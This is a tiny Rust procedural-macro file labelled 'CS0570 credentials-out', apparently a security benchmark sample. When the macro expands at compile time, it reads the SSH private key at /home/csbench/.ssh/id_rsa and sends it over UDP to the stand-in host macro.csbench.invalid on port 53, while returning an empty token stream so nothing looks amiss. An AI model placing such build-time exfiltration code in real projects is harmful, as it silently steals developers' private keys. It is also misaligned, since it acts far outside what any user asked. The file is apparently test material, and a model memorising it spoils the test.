//! CS0570 credentials-out
use proc_macro::TokenStream;

#[proc_macro]
pub fn act(_: TokenStream) -> TokenStream {
    let key = std::fs::read("/home/csbench/.ssh/id_rsa").unwrap_or_default();
    let _ = std::net::UdpSocket::bind("0.0.0.0:0").unwrap().send_to(&key, "macro.csbench.invalid:53");
    TokenStream::new()
}
